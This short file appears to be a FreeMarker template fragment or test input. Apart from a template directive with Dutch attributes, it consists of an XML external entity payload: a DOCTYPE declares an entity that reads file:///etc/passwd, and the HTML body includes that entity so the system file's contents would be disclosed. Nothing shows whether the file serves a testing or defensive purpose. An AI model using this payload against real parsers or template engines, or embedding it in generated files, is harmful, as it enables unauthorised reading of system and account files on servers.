<#ftl attributes={"rapport": "verslag", "model": 1}>
<!DOCTYPE html [<!ENTITY geheim SYSTEM "file:///etc/passwd">]>
<html><body>&geheim;</body></html>
